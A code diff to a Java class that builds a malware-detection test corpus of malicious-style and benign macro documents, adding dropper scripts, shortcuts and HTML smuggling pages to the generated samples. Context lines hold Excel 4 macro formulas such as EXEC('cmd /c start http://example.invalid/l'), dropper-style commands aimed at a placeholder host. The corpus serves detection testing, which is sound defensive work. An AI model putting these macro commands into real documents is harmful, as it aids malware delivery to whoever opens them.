@@ -15,7 +15,8 @@ import org.peekaboo.office.testing.OfficeFiles;
 
 /**
  * Writes the generated part of the detection corpus (see docs/detection.md): malicious-style
- * macro documents into {@code malicious/} and benign macro-enabled documents into
+ * macro documents into {@code malicious/}, with the scripts, shortcuts and HTML smuggling pages
+ * of {@link DropperFiles}, and benign macro-enabled documents into
  * {@code benign-macros/}. The droppers are real VBA projects and Excel 4 macro sheets whose
  * text does what droppers do; nothing in them is executable and nothing here runs them. The
  * same seed gives the same set of documents and sources (zip timestamps aside).
@@ -103,6 +104,7 @@ public final class DropperCorpus {
                 OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/l\")", "HALT()")));
         samples.add(new Sample("malicious", "%02d-xlm-exec-sylk.slk".formatted(++n),
                 OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/s\")", "HALT()")));
+        samples.addAll(DropperFiles.malicious(n + 1));
         return samples;
     }
 
